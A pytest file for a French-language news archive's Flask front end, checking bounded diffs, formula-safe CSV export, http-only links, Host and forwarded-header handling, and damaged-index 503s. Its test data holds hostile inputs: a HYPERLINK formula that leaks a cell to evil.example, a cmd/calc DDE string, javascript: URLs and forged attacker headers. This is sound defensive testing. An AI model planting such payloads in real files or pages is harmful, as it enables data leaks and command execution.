"""What a stranger's article, a client's headers or a damaged index can do to the front end:
bounded comparisons, formula-free CSV, links only to web pages, a 503 for a damaged index and a
400 for a bad Host (issue 10, findings 1, 4, 5, 6, 7 and 9)."""

from __future__ import annotations

import csv
import io
import itertools
import random
import shutil
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from flask.testing import FlaskClient
from web_archive import SEEN, BuiltArchive, build_archive
from web_servers import fetch, gunicorn

from archive.errors import ServerBusy
from archive.models import Article
from archive.store import Archive
from archive.web import create_app
from archive.web.diff import diff_texts, diff_words
from archive.web.exports import spreadsheet_cell
from archive.web.limits import Deadline, ExpensivePages, busy_slots
from archive.web.links import web_link
from indexer.update import update_index

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez") Sandaga'
FORMULA_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
JAVASCRIPT_URL = "javascript:alert(document.domain)//sn.notrecontinent.com/2024/05/03/x/"
LONG_WORDS = 20_000
STRETCHES = 40


def long_paragraph(words: int, seed: int = 7) -> list[str]:
    """Return WORDS words of French-looking prose in which every word repeats many times."""
    rng = random.Random(seed)
    vocabulary = [f"mot{n}" for n in range(words // 20)] + ["de", "la", "le", "et", "des"] * 50
    return [rng.choice(vocabulary) for _ in range(words)]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BuiltArchive]:
    data_dir = tmp_path_factory.mktemp("hostile-web")
    built = build_archive(data_dir, 12, edits=1, index=False)
    with Archive.open(data_dir / "archive.sqlite3") as archive:
        formula = Article(
            url="https://sn.notrecontinent.com/2024/05/03/formule/", title=FORMULA_TITLE,
            body="Le marché de Sandaga.\n\n-2+3 disent les comptables de Sandaga.",
            author=FORMULA_AUTHOR, published=built.corpus.article(0).published, edition="sn",
        )
        saved = archive.articles.save_article(formula, capture_id=None, seen_at=SEEN)
        built.ids[100] = saved.article_id
        scripted = Article(
            url=JAVASCRIPT_URL, title="Un lien piégé vers Sandaga", canonical_url=JAVASCRIPT_URL,
            body="Le marché de Sandaga et son adresse piégée.", author="Awa Ndiaye",
            published=built.corpus.article(0).published, edition="sn",
        )
        saved = archive.articles.save_article(scripted, capture_id=None, seen_at=SEEN)
        built.ids[101] = saved.article_id
        words = long_paragraph(LONG_WORDS)
        edited = list(words)
        for position in range(0, LONG_WORDS, 7):
            edited[position] = "changé"
        long_url = "https://sn.notrecontinent.com/2024/05/04/long/"
        for n, text in enumerate((words, edited)):
            article = Article(url=long_url, title="Un très long paragraphe", body=" ".join(text),
                              author="Awa Ndiaye", published=built.corpus.article(0).published)
            saved = archive.articles.save_article(article, capture_id=None,
                                         seen_at=SEEN + timedelta(days=n))
        built.ids[102] = saved.article_id
        repetitive_url = "https://sn.notrecontinent.com/2024/05/05/repetitif/"
        for n, text in enumerate(("de la " * 5000, "la de " * 5000)):
            article = Article(url=repetitive_url, title="Un paragraphe répétitif", body=text,
                              author="Awa Ndiaye", published=built.corpus.article(0).published)
            saved = archive.articles.save_article(article, capture_id=None,
                                         seen_at=SEEN + timedelta(days=n))
        built.ids[103] = saved.article_id
    update_index(data_dir / "archive.sqlite3", data_dir / "index", full=True)
    yield built


@pytest.fixture(scope="module")
def app(built: BuiltArchive) -> Iterator[Flask]:
    application = create_app({"DATA_DIR": built.data_dir, "TESTING": True})
    yield application
    application.extensions["archive"].close()


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


# ------------------------------------------------------------------ 1: bounded comparisons


def test_long_paragraph_diff_is_bounded_by_its_deadline() -> None:
    words = long_paragraph(LONG_WORDS)
    edited = ["changé" if n % 7 == 0 else word for n, word in enumerate(words)]
    ticks = itertools.count()
    clock_reads = []

    def clock() -> float:  # one second per look at the clock
        clock_reads.append(1)
        return float(next(ticks))

    comparison = diff_texts(" ".join(words), " ".join(edited),
                            deadline=Deadline(20, clock=clock))
    assert comparison.coarse
    assert len(clock_reads) == 21  # set, then read until the deadline passed; never again
    shown = "".join(s.text for p in comparison.paragraphs for s in p.segments
                    if s.kind != "insert")
    assert shown.split() == words


def test_long_paragraph_diff_is_bounded_in_work() -> None:
    words = long_paragraph(100_000)
    edited = ["changé" if n % 7 == 0 else word for n, word in enumerate(words)]
    comparison = diff_texts(" ".join(words), " ".join(edited), max_chars=10**7)
    assert comparison.coarse
    kept = "".join(s.text for p in comparison.paragraphs for s in p.segments
                   if s.kind != "delete")
    assert kept.split() == edited


def test_long_paragraph_diff_marks_the_one_changed_word() -> None:
    words = long_paragraph(LONG_WORDS)
    edited = list(words)
    edited[LONG_WORDS // 2] = "inédit"
    segments = diff_words(" ".join(words), " ".join(edited))
    changes = [(s.kind, s.text.strip()) for s in segments if s.kind != "equal"]
    assert changes == [("delete", words[LONG_WORDS // 2]), ("insert", "inédit")]


def test_long_paragraph_diff_marks_words_without_giving_up() -> None:
    words = long_paragraph(LONG_WORDS)
    edited = ["changé" if n % 7 == 0 else word for n, word in enumerate(words)]
    comparison = diff_texts(" ".join(words), " ".join(edited))
    assert not comparison.coarse
    assert comparison.inserted_words == comparison.deleted_words
    assert comparison.inserted_words <= 2 * len(range(0, LONG_WORDS, 7))


def test_diff_of_text_too_long_for_one_page_is_cut_and_says_so(
        client: FlaskClient, built: BuiltArchive) -> None:
    comparison = diff_texts("un deux trois\n\nquatre", "un deux\n\nquatre cinq", max_chars=8)
    assert comparison.truncated
    assert sum(len(s.text) for p in comparison.paragraphs for s in p.segments) <= 9
    page = client.get(f"/article/{built.ids[102]}/diff")
    assert page.status_code == 200
    assert "<ins>changé </ins>" in page.get_data(as_text=True)


def test_diff_page_says_when_paragraphs_are_shown_whole(client: FlaskClient,
                                                         built: BuiltArchive) -> None:
    comparison = diff_texts("de la " * 5000, "la de " * 5000)
    assert comparison.coarse
    notice = "trop longs pour être comparés mot à mot"
    assert notice in client.get(f"/article/{built.ids[103]}/diff").get_data(as_text=True)


def test_diff_beyond_the_workers_slots_is_a_quick_french_503(
        app: Flask, client: FlaskClient, built: BuiltArchive) -> None:
    services = app.extensions["archive"]
    held = [services.expensive.slot() for _ in range(services.expensive.slots)]
    for slot in held:
        slot.__enter__()
    try:
        response = client.get(f"/article/{built.ids[102]}/diff")
    finally:
        for slot in held:
            slot.__exit__(None, None, None)
    assert response.status_code == 503
    assert "Trop de comparaisons" in response.get_data(as_text=True)
    assert int(response.headers["Retry-After"]) <= 10
    assert client.get(f"/article/{built.ids[102]}/diff").status_code == 200


# ------------------------------------------------------------------ 5: spreadsheet-safe CSV


@pytest.mark.parametrize("cell", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx", " =1",
                                  "\uff1d1"])
def test_formula_like_cell_is_prefixed_with_a_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Sandaga", "2024-05-03", "", "Awa = Ndiaye", "1"])
def test_plain_cell_is_left_alone(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_csv_export_cells_never_start_a_formula(client: FlaskClient) -> None:
    body = client.get("/recherche.csv?q=Sandaga").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert any(row["titre"] == "'" + FORMULA_TITLE for row in rows)
    assert any(row["auteur"] == "'" + FORMULA_AUTHOR for row in rows)
    for row in rows:
        for value in row.values():
            assert value.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


# ------------------------------------------------------------------ 6: links only to web pages


@pytest.mark.parametrize("url", [JAVASCRIPT_URL, "JavaScript:alert(1)", "java\tscript:alert(1)",
                                 " javascript:alert(1)", "data:text/html,<b>x</b>",
                                 "vbscript:x", "//evil.example/", "/relative", "https://",
                                 "http://[::1"])
def test_address_that_is_not_an_http_url_is_no_link(url: str) -> None:
    assert web_link(url) is None


def test_http_and_https_addresses_are_links() -> None:
    for url in ("https://sn.notrecontinent.com/2024/05/03/x/", "HTTP://ci.notrecontinent.com/"):
        assert web_link(url) == url


def test_javascript_address_is_shown_as_text_on_every_surface(
        client: FlaskClient, built: BuiltArchive) -> None:
    article_id = built.ids[101]
    page = client.get(f"/article/{article_id}").get_data(as_text=True)
    assert "alert(document.domain)" in page
    assert 'href="javascript' not in page.lower()
    feed = ET.fromstring(client.get("/recherche.atom?q=piégée").data)
    hrefs = [link.get("href", "") for link in feed.iter("{http://www.w3.org/2005/Atom}link")]
    assert hrefs and not any(href.lower().startswith("javascript") for href in hrefs)
    hit = next(h for h in client.get("/api/search?q=piégée").get_json()["hits"]
               if h["id"] == article_id)
    assert hit["original_url"] is None
    assert client.get(f"/api/articles/{article_id}").get_json()["original_url"] is None
    body = client.get("/recherche.csv?q=piégée").get_data(as_text=True).lstrip("\ufeff")
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["id"] == str(article_id))
    assert row["url_originale"] == ""


# ------------------------------------------------------------------ 9: bad Host header


@pytest.mark.parametrize("host", ["x" * 300, "bad\x00host", "a b:80"])
def test_bad_host_header_is_a_400_not_a_500(client: FlaskClient, host: str) -> None:
    response = client.get("/", headers={"Host": host})
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "Requête incorrecte" in text and "Traceback" not in text


# ------------------------------------------------------------------ 4: forwarded headers


def test_forwarded_host_prefix_and_port_from_a_client_are_ignored(built: BuiltArchive) -> None:
    from archive.config import load_settings

    settings = load_settings(environ={"ARCHIVE_TRUSTED_PROXIES": "1"}, data_dir=built.data_dir)
    application = create_app({"SETTINGS": settings, "TESTING": True})
    forged = {"Host": "archive.example.org", "X-Forwarded-Host": "attacker.invalid",
              "X-Forwarded-Prefix": "//attacker.invalid", "X-Forwarded-Port": "6666",
              "X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    try:
        client = application.test_client()
        for path in ("/", f"/article/{built.ids[100]}", "/recherche.atom?q=Sandaga",
                     "/recherche.csv?q=Sandaga", "/api/search?q=Sandaga"):
            text = client.get(path, headers=forged).get_data(as_text=True)
            assert "attacker.invalid" not in text and "6666" not in text, path
        assert "https://archive.example.org/article/" in client.get(
            "/api/search?q=Sandaga", headers=forged).get_data(as_text=True)
    finally:
        application.extensions["archive"].close()


# ------------------------------------------------------------------ 7: damaged index


def _damaged_copy(built: BuiltArchive, tmp_path: Path, how: str) -> Path:
    data_dir = tmp_path / "data"
    shutil.copytree(built.data_dir, data_dir, symlinks=True)
    segment = next((data_dir / "index" / "current").resolve().glob("*.seg"))
    data = bytearray(segment.read_bytes())
    if how == "truncated":
        segment.write_bytes(bytes(data[: len(data) // 3]))
    elif how == "overwritten":
        rng = random.Random(1)
        segment.write_bytes(bytes(rng.randrange(256) for _ in data))
    elif how == "missing":
        segment.unlink()
    return data_dir


@pytest.mark.parametrize("how", ["truncated", "overwritten", "missing"])
def test_damaged_index_is_a_503_everywhere_and_never_a_traceback(
        built: BuiltArchive, tmp_path: Path, how: str) -> None:
    application = create_app({"DATA_DIR": _damaged_copy(built, tmp_path, how), "TESTING": True})
    try:
        client = application.test_client()
        health = client.get("/healthz")
        assert health.status_code == 503
        assert health.get_json()["error"] == "IndexUnreadable"
        assert "python -m archive index --full" in health.get_json()["message"]
        for path in ("/recherche?q=Sandaga", "/recherche.atom?q=Sandaga",
                     "/recherche.csv?q=Sandaga"):
            response = client.get(path)
            assert response.status_code == 503, path
            assert "index de recherche est endommagé" in response.get_data(as_text=True)
        api = client.get("/api/search?q=Sandaga")
        assert api.status_code == 503 and "endommagé" in api.get_json()["error"]["message"]
        article = client.get(f"/article/{built.ids[100]}")
        assert article.status_code == 200 and "Sandaga" in article.get_data(as_text=True)
    finally:
        application.extensions["archive"].close()


def test_no_damaged_stretch_of_a_segment_gives_a_500_and_read_failures_reach_healthz(
        built: BuiltArchive, tmp_path: Path) -> None:
    data_dir = _damaged_copy(built, tmp_path, "none")
    shutil.rmtree(data_dir / "index")
    shutil.copytree(built.data_dir / "index", data_dir / "index", symlinks=True)
    segment = next((data_dir / "index" / "current").resolve().glob("*.seg"))
    sound = segment.read_bytes()
    paths = ["/recherche?q=Sandaga", "/recherche?q=march%C3%A9+central", "/api/search?q=marché",
             "/recherche.atom", *(f"/article/{n}" for n in range(1, 8))]
    read_failures = 0
    for step in range(STRETCHES):
        rng = random.Random(step)
        start = len(sound) * step // STRETCHES
        damaged = bytearray(sound)
        damaged[start:start + 3000] = bytes(rng.randrange(256) for _ in range(3000))
        segment.write_bytes(bytes(damaged[:len(sound)]))
        application = create_app({"DATA_DIR": data_dir, "TESTING": True})
        try:
            client = application.test_client()
            opened = client.get("/healthz").status_code == 200
            statuses = [client.get(path).status_code for path in paths]
            assert 500 not in statuses, (step, statuses)
            if opened and application.extensions["archive"].damaged_build is not None:
                read_failures += 1
                assert client.get("/healthz").status_code == 503
        finally:
            application.extensions["archive"].close()
    assert read_failures, "no damaged stretch failed while reading: the test covers nothing"


# ------------------------------------------------------------------ 1: under load, on gunicorn

DIFF_REQUESTS = 8
HEALTH_PROBES = 10


def _get(port: int, path: str, timeout: float) -> int:
    return fetch(port, path, timeout=timeout)[0]


@pytest.fixture
def gunicorn_port(built: BuiltArchive, tmp_path: Path) -> Iterator[int]:
    """The repository's gunicorn configuration (threaded workers) serving BUILT on loopback."""
    with gunicorn(built.data_dir, tmp_path) as port:
        yield port


def test_concurrent_diffs_of_a_huge_paragraph_leave_gunicorn_answering_health_probes(
        gunicorn_port: int, built: BuiltArchive) -> None:
    port = gunicorn_port
    diff_path = f"/article/{built.ids[102]}/diff"
    answers: list[int | str] = []
    probes: list[int] = []

    def ask_and_hang_up() -> None:
        try:
            answers.append(_get(port, diff_path, timeout=30))
        except OSError as exc:
            answers.append(type(exc).__name__)

    senders = [threading.Thread(target=ask_and_hang_up) for _ in range(DIFF_REQUESTS)]
    for sender in senders:
        sender.start()
    probes.extend(_get(port, "/healthz", timeout=30) for _ in range(HEALTH_PROBES))
    for sender in senders:
        sender.join(timeout=60)
    # Each worker runs at most its slots' comparisons (each refining for DIFF_SECONDS at
    # most); the others are turned away at once with a 503 and a Retry-After, so the probes
    # sent during the burst find threads free. How fast they answer is bench/web.py's matter.
    assert probes == [200] * HEALTH_PROBES
    assert 200 in answers, answers
    assert 503 in answers, f"no comparison was turned away: {answers}"
    assert set(answers) <= {200, 503}, answers
    assert _get(port, diff_path, timeout=10) == 200


def test_a_worker_runs_one_expensive_page_per_four_threads() -> None:
    assert [busy_slots(threads) for threads in (1, 3, 4, 8, 9)] == [1, 1, 1, 2, 2]


def test_an_expensive_page_past_its_slots_is_turned_away_until_one_frees() -> None:
    pages = ExpensivePages(slots=1)
    with pages.slot():
        with pytest.raises(ServerBusy, match="réessayez"):
            with pages.slot():
                pass
    with pages.slot():
        pass
